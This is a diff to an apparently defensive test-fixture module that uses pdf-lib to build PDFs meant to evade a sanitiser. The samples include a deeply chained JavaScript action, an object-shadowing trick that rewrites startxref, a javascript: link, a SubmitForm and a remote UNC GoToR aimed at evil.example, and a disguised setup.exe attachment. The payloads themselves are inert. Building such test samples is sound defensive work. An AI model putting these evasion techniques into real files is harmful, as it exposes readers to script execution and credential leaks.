@@ -1,7 +1,7 @@
 import { readFile } from "node:fs/promises";
 import { createRequire } from "node:module";
 import { inflateSync } from "node:zlib";
-import { PDFDocument, PDFName, PDFString, rgb } from "@cantoo/pdf-lib";
+import { PDFDocument, PDFName, PDFString, rgb, type PDFObject } from "@cantoo/pdf-lib";
 import fontkit from "@pdf-lib/fontkit";
 import sharp from "sharp";
 
@@ -203,4 +203,87 @@ export async function lockedPdf(): Promise<Uint8Array> {
 /** A ZIP archive's bytes under a .pdf name. */
 export function zipNamedPdf(): Buffer {
   return Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00]), Buffer.alloc(200)]);
+}
+
+/**
+ * PDFs that walk around a check of their parsed objects (tests/security/pdf-walkarounds.test.ts):
+ * each opens on a page and does one thing the site never serves.
+ */
+export async function walkaroundPdfs(): Promise<Record<string, Uint8Array>> {
+  const withCatalog = async (
+    entries: (document: PDFDocument) => Record<string, PDFObject>,
+    options: { useObjectStreams?: boolean } = {},
+  ) => {
+    const document = await PDFDocument.create();
+    document.addPage([A4.width, A4.height]);
+    for (const [key, value] of Object.entries(entries(document)))
+      document.catalog.set(PDFName.of(key), value);
+    return document.save(options);
+  };
+
+  const deepChain = await withCatalog((document) => {
+    let next = document.context.obj({ S: "JavaScript", JS: PDFString.of("app.alert(1);") });
+    for (let level = 0; level < 40; level++)
+      next = document.context.obj({ S: "GoTo", D: [0, "Fit"], Next: next });
+    return { OpenAction: document.context.register(next) };
+  });
+
+  // The script is written first, where the cross-reference table points; a harmless copy of
+  // the same object follows it, which a library reading the file in order keeps instead.
+  const scripted = Buffer.from(
+    await withCatalog(
+      (document) => ({
+        OpenAction: document.context.register(
+          document.context.obj({ S: "JavaScript", JS: PDFString.of("app.alert(1);") }),
+        ),
+      }),
+      { useObjectStreams: false },
+    ),
+  ).toString("latin1");
+  const number = /(\d+) 0 obj\s*<<\s*\/S \/JavaScript/.exec(scripted)![1]!;
+  const harmless = `${number} 0 obj\n<< /S /GoTo /D [ 0 /Fit ] >>\nendobj\n`;
+  const xrefAt = scripted.lastIndexOf("xref");
+  const startxref = Number(/startxref\s+(\d+)/.exec(scripted)![1]);
+  const shadowed = Buffer.from(
+    scripted.slice(0, xrefAt) +
+      harmless +
+      scripted
+        .slice(xrefAt)
+        .replace(/startxref\s+\d+/, `startxref\n${startxref + harmless.length}`),
+    "latin1",
+  );
+
+  const attached = await PDFDocument.create();
+  attached.addPage([A4.width, A4.height]);
+  await attached.attach(Buffer.from("MZ not really a program"), "setup.exe", {
+    mimeType: "application/octet-stream",
+  });
+
+  return {
+    "a script 40 actions deep": deepChain,
+    "a script shadowed by a later copy of its object": shadowed,
+    "an XFA form": await withCatalog((document) => ({
+      AcroForm: document.context.obj({ Fields: [], XFA: PDFString.of("<xdp:xdp/>") }),
+    })),
+    "a javascript: link": await withCatalog((document) => ({
+      OpenAction: document.context.register(
+        document.context.obj({ S: "URI", URI: PDFString.of("javascript:app.alert(1)") }),
+      ),
+    })),
+    "a form that submits": await withCatalog((document) => ({
+      OpenAction: document.context.register(
+        document.context.obj({ S: "SubmitForm", F: PDFString.of("https://evil.example/") }),
+      ),
+    })),
+    "a go-to to a file on another machine": await withCatalog((document) => ({
+      OpenAction: document.context.register(
+        document.context.obj({
+          S: "GoToR",
+          F: PDFString.of("\\\\evil.example\\share\\paper.pdf"),
+          D: [0, "Fit"],
+        }),
+      ),
+    })),
+    "an attached setup.exe": await attached.save(),
+  };
 }
